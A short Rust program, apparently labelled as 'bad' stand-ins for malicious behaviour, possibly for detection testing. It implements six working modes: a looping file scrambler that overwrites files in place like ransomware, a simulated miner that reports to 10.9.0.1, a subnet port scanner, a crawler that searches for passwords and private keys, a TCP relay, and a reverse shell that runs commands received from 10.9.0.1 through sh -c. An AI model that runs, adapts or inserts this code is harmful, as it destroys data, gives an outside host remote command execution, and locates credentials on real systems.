// bad WHAT ...: stand-ins in Rust: encrypt DIR US, mine THREADS PORT, scan US, crawl DIR, relay PORT TO, shell PORT.
use std::{env, fs, io::{self, Read, Write, BufRead}, net::{TcpListener, TcpStream, SocketAddr}, path::Path, process::Command, thread, time::Duration};
fn walk(d: &Path, f: &mut dyn FnMut(&Path)) { if let Ok(x) = fs::read_dir(d) { for e in x.flatten() { let p = e.path(); if let Ok(t) = e.file_type() { if t.is_dir() { walk(&p, f) } else if t.is_file() { f(&p) } } } } }
fn main() {
    let a: Vec<String> = env::args().collect(); let n = |i: usize| a[i].parse::<u64>().unwrap();
    match a[1].as_str() {
        "encrypt" => loop { walk(Path::new(&a[2]), &mut |p| { if let Ok(mut b) = fs::read(p) { let mut k = 7u64; for x in b.iter_mut() { k = k.wrapping_mul(6364136223846793005).wrapping_add(1); *x ^= (k >> 56) as u8; }
            let q = p.with_extension("crypt"); fs::write(&q, &b).ok(); fs::remove_file(p).ok(); fs::rename(&q, p).ok(); thread::sleep(Duration::from_micros(n(3))); } }) },
        "mine" => { let mut s = TcpStream::connect(("10.9.0.1", n(3) as u16)).unwrap(); s.write_all(b"{\"method\":\"login\"}\n").ok();
            for i in 0..n(2) { thread::spawn(move || { let mut h = i; loop { for j in 0..90_000_000u64 { h = (h ^ j).wrapping_mul(0x9E3779B97F4A7C15).rotate_left(29); } if h == 1 { println!("{}", h); } thread::sleep(Duration::from_micros(300)); } }); }
            for l in io::BufReader::new(s.try_clone().unwrap()).lines() { if l.is_err() { break } s.write_all(b"{\"method\":\"submit\"}\n").ok(); } }
        "scan" => loop { for h in 1..250u8 { for p in 1..2000u16 { let _ = TcpStream::connect_timeout(&SocketAddr::from(([10, 9, 0, h], p)), Duration::from_millis(200)); if n(2) > 0 { thread::sleep(Duration::from_micros(n(2))); } } } },
        "crawl" => loop { walk(Path::new(&a[2]), &mut |p| { if let Ok(s) = fs::read_to_string(p) { if s.contains("password") || s.contains("PRIVATE KEY") { println!("{}", p.display()); } } }); thread::sleep(Duration::from_millis(100)); },
        "relay" => { let to = n(3) as u16; for c in TcpListener::bind(("0.0.0.0", n(2) as u16)).unwrap().incoming().flatten() { thread::spawn(move || { if let Ok(d) = TcpStream::connect(("10.9.0.1", to)) { let (mut c2, mut d2) = (c.try_clone().unwrap(), d.try_clone().unwrap()); let (mut c, mut d) = (c, d); thread::spawn(move || { io::copy(&mut c2, &mut d).ok(); d.shutdown(std::net::Shutdown::Both).ok(); }); io::copy(&mut d2, &mut c).ok(); c.shutdown(std::net::Shutdown::Both).ok(); } }); } }
        _ => { let s = TcpStream::connect(("10.9.0.1", n(2) as u16)).unwrap(); let mut w = s.try_clone().unwrap(); for l in io::BufReader::new(s).lines().flatten() { if let Ok(o) = Command::new("sh").arg("-c").arg(l).output() { w.write_all(&o.stdout).ok(); w.write_all(&o.stderr).ok(); } } let mut b = [0u8; 1]; io::stdin().read(&mut b).ok(); }
    }
}
